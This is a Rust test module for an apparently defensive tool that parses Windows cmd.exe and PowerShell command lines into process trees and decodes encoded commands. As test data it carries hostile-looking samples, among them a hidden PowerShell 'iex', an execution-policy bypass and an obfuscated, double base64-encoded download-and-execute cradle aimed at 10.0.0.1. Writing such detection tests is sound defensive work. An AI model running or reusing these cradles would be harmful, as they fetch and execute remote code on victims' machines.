//! Tests of the whole reading, from an action to its processes.

mod benign;
mod limits;
mod powershdll;
mod powershell_chains;
mod rewritings;

use super::programs::Programs;
use super::*;
use crate::task::Exec;
use crate::work::Work;

/// An action of a command and its arguments; an empty text stands for no element.
fn exec(command: &str, arguments: &str) -> Exec {
    let element = |text: &str| Some(text.to_owned()).filter(|text| !text.is_empty());
    Exec { command: element(command), arguments: element(arguments), working_directory: None }
}

fn processes(command: &str, arguments: &str) -> Vec<Process> {
    read(&exec(command, arguments), &Programs::default(), &Work::unlimited()).list
}

/// The command lines that `cmd.exe` starts with these arguments, one below the other.
pub(super) fn of_action(arguments: &str) -> Vec<String> {
    let list = processes("cmd.exe", arguments);
    list.into_iter().skip(1).map(|process| process.command_line).collect()
}

/// Returns whether a name is one that cmd.exe or this reading treats in its own way.
pub(super) fn is_taken(name: &str) -> bool {
    cmd::is_system_program(name)
        || [
            "for", "set", "call", "echo", "rem", "copy", "move", "type", "dir", "del", "start", "exit",
            "goto", "path", "title", "color", "break", "erase", "mkdir", "rmdir", "rename", "ren", "time",
            "date", "ver", "vol", "cls", "pushd", "popd", "chdir", "assoc", "ftype", "shift", "pause",
            "prompt", "verify", "mklink", "setlocal", "endlocal", "not", "else", "pwsh",
        ]
        .contains(&name)
}

fn encoded(script: &str) -> String {
    decode::base64::encode(&decode::text::to_utf_16le(script))
}

#[test]
fn command_and_arguments_are_joined_as_windows_would() {
    for (command, arguments, line, image) in [
        ("cmd.exe", "/c dir", "cmd.exe /c dir", "cmd.exe"),
        ("notepad", "", "notepad", "notepad.exe"),
        (
            r"C:\Program Files\x\y.exe",
            r#"/c "a b""#,
            r#""C:\Program Files\x\y.exe" /c "a b""#,
            r"C:\Program Files\x\y.exe",
        ),
        (
            r#""C:\Program Files\x\y.exe""#,
            "-a",
            r#""C:\Program Files\x\y.exe" -a"#,
            r"C:\Program Files\x\y.exe",
        ),
        (
            r"C:\Program Files\x\y.exe -a b",
            "",
            r#""C:\Program Files\x\y.exe" -a b"#,
            r"C:\Program Files\x\y.exe",
        ),
        ("powershell -nop", "-c x", "powershell -nop -c x", "powershell.exe"),
        (
            r"%windir%\system32\sc.exe",
            "start x",
            r"C:\Windows\system32\sc.exe start x",
            r"C:\Windows\system32\sc.exe",
        ),
        ("%ComSpec:~-7%", "/c x", "cmd.exe /c x", "cmd.exe"),
        ("", "-c x", "-c x", ""),
    ] {
        let list = processes(command, arguments);
        let first = list.first().unwrap();
        assert_eq!(
            (first.command_line.as_str(), first.image.as_str()),
            (line, image),
            "{command} | {arguments}"
        );
    }
    assert_eq!(read(&Exec::default(), &Programs::default(), &Work::unlimited()), Processes::default());
}

#[test]
fn a_wrapper_is_the_parent_of_what_it_starts() {
    let line = r#"/c start /min "" conhost --headless powershell -w hidden -c iex & calc"#;
    let list = processes("cmd.exe", line);
    let names: Vec<_> = list.iter().map(|p| (p.image_name.as_str(), p.parent)).collect();
    assert_eq!(
        names,
        [("cmd.exe", None), ("conhost.exe", Some(0)), ("calc.exe", Some(0)), ("powershell.exe", Some(1))]
    );
    assert_eq!(list[3].command_line, "powershell -w hidden -c iex");
}

#[test]
fn standard_input() {
    let shell = |arguments: &str| processes("cmd.exe", arguments).pop().unwrap().powershell.unwrap();
    let shown = shell("/c echo iex (x) | powershell -nop -");
    assert!(shown.from_stdin);
    assert_eq!(shown.script.as_deref(), Some("iex (x)"));
    for arguments in
        ["/c type x.txt | powershell -", "/c powershell < x.txt", "/c more x.txt:s|powershell -command -"]
    {
        let shell = shell(arguments);
        assert!(shell.from_stdin && shell.script.is_none(), "{arguments}");
    }
    assert!(!shell("/c echo x & powershell -c y").from_stdin);
}

#[test]
fn the_working_directory_is_expanded() {
    let exec = Exec { working_directory: Some(r"%windir%\Temp".into()), ..exec("cmd", "/c calc") };
    let list = read(&exec, &Programs::default(), &Work::unlimited()).list;
    assert!(
        list.len() == 2 && list.iter().all(|p| p.working_directory.as_deref() == Some(r"C:\Windows\Temp"))
    );
}

#[test]
fn an_encoded_command_is_the_script_and_the_first_layer() {
    let inner = encoded("IEX (New-Object Net.WebClient).('Down'+'loadString').Invoke('http://10.0.0.1/a')");
    let outer = encoded(&format!("powershell -nop -enc {inner}"));
    let list = processes("powershell.exe", &format!("-NoP -w 1 -enc {outer}"));
    let shell = list[0].powershell.as_ref().unwrap();
    assert_eq!(shell.parameters, ["noprofile", "windowstyle hidden", "encodedcommand"]);
    assert_eq!(shell.script.as_deref(), Some(format!("powershell -nop -enc {inner}").as_str()));
    let how: Vec<_> = list[0].decoded.iter().map(|layer| layer.how.as_str()).collect();
    assert_eq!(how, ["base64 utf-16le", "base64 utf-16le", "folded"]);
    assert!(list[0].decoded[2].text.contains(".DownloadString.Invoke("));
}

#[test]
fn a_script_file_is_named() {
    for (arguments, file) in [
        (r"-ExecutionPolicy Bypass -File C:\Users\Public\x.ps1 -a", Some(r"C:\Users\Public\x.ps1")),
        (r#"-file "C:\my files\x.ps1""#, Some(r"C:\my files\x.ps1")),
        (r"-c & 'C:\my files\x.ps1'", Some(r"C:\my files\x.ps1")),
        (r#"-command "& {. C:\x.ps1}""#, Some(r"C:\x.ps1")),
        (r"C:\x.ps1 -a", Some(r"C:\x.ps1")),
        ("-file x.txt", Some("x.txt")),
        ("-c Get-Date", None),
    ] {
        let list = processes("powershell", arguments);
        assert_eq!(list[0].powershell.as_ref().unwrap().file.as_deref(), file, "{arguments}");
    }
    assert_eq!(
        processes("pwsh", "-nop x.ps1 y")[0].powershell.as_ref().unwrap().file.as_deref(),
        Some("x.ps1")
    );
}
